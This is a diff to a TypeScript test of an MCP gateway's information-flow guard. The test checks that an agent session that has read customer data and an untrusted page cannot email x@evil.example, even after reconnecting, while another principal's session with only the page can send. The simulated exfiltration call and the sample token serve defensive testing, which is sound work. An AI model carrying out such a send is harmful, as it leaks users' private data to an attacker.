@@ -13,14 +13,17 @@ import { type HttpGateway, serveGatewayHttp } from "../../src/mcp/serve-gateway-
 import { defineTool } from "../../src/tool/define-tool.js";
 import { memoryLog } from "./support/mcp-fixtures.js";
 
-// The information flow through the gateway: each MCP client session is a docket session, and
-// its labels are kept by the gateway's one checkpoint.
+// The information flow through the gateway: a principal's MCP sessions share one conversation
+// (ADR 0039), whose labels the gateway's one checkpoint keeps, so a reconnect sheds nothing;
+// another principal's conversation starts clean.
 const KEY = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
 const token = generateToken();
+const bobToken = generateToken();
 const events = createMemoryEventSink();
 const sent: string[] = [];
 let backend: McpGatewayBackend;
 let gateway: HttpGateway;
+let bobGateway: HttpGateway;
 const clients: Client[] = [];
 
 const tools = [
@@ -53,11 +56,12 @@ const tools = [
   }),
 ];
 
-async function connect() {
+async function connect(as: "ada" | "bob" = "ada") {
   const client = new Client({ name: "flow-test", version: "1.0.0" });
+  const [url, bearer] = as === "ada" ? [gateway.url, token] : [bobGateway.url, bobToken];
   await client.connect(
-    new StreamableHTTPClientTransport(new URL(gateway.url), {
-      requestInit: { headers: { authorization: `Bearer ${token}` } },
+    new StreamableHTTPClientTransport(new URL(url), {
+      requestInit: { headers: { authorization: `Bearer ${bearer}` } },
     }),
   );
   clients.push(client);
@@ -77,17 +81,20 @@ beforeAll(async () => {
     flow: { sensitive: ["db_query"], secrets: "mask" },
     approvals: () => ({ decision: "deny", by: "reviewer", reason: "not out" }),
   });
-  gateway = await serveGatewayHttp(backend, { token, maxBodyBytes: 64 * 1024 });
+  gateway = await serveGatewayHttp(backend, { token, principal: "ada", maxBodyBytes: 64 * 1024 });
+  // The same checkpoint served to a second principal.
+  bobGateway = await serveGatewayHttp(backend, { token: bobToken, principal: "bob" });
 });
 
 afterAll(async () => {
   for (const client of clients) await client.close().catch(() => {});
   await gateway?.close();
+  await bobGateway?.close();
   await backend?.close();
 });
 
 describe("the information flow through the gateway", () => {
-  it("a session holding private data and a page cannot send; another session with the page alone can", async () => {
+  it("a session holding private data and a page cannot send, nor can the same principal's next session; another principal with the page alone can", async () => {
     const both = await connect();
     const rows = await call(both, "db_query", { sql: "select * from customers" });
     // The key in the row is masked before the client's model sees it.
@@ -99,17 +106,25 @@ describe("the information flow through the gateway", () => {
     expect(textOf(refused)).toContain("reviewer denied");
     expect(sent).toEqual([]);
 
-    const pageOnly = await connect();
+    // A reconnect of the same principal keeps the conversation's labels.
+    const again = await connect();
+    const stillRefused = await call(again, "send_email", { to: "x@evil.example", body: "Ada" });
+    expect(stillRefused.isError).toBe(true);
+    expect(sent).toEqual([]);
+
+    const pageOnly = await connect("bob");
     await call(pageOnly, "read_page", { url: "https://evil.example/" });
     const ok = await call(pageOnly, "send_email", { to: "x@example.com", body: "hello" });
     expect(ok.isError).toBeFalsy();
     expect(sent).toEqual(["hello"]);
     const decided = events.events.filter((e) => e.type === "decided" && e.tool === "send_email");
-    // The trail names both sources of the refused send; the other session's send was allowed.
-    expect(decided[0]).toMatchObject({ decision: "ask", rule: "docket:flow" });
-    expect(decided[0]?.type === "decided" && decided[0].reason).toMatch(
-      /private data \(db_query, call .*\) and untrusted content \(read_page, call /,
-    );
-    expect(decided[1]).toMatchObject({ decision: "allow" });
+    // The trail names both sources of the refused sends; the other principal's send was allowed.
+    for (const refusedSend of decided.slice(0, 2)) {
+      expect(refusedSend).toMatchObject({ decision: "ask", rule: "docket:flow" });
+      expect(refusedSend.type === "decided" && refusedSend.reason).toMatch(
+        /private data \(db_query, call .*\) and untrusted content \(read_page, call /,
+      );
+    }
+    expect(decided[2]).toMatchObject({ decision: "allow" });
   });
 });
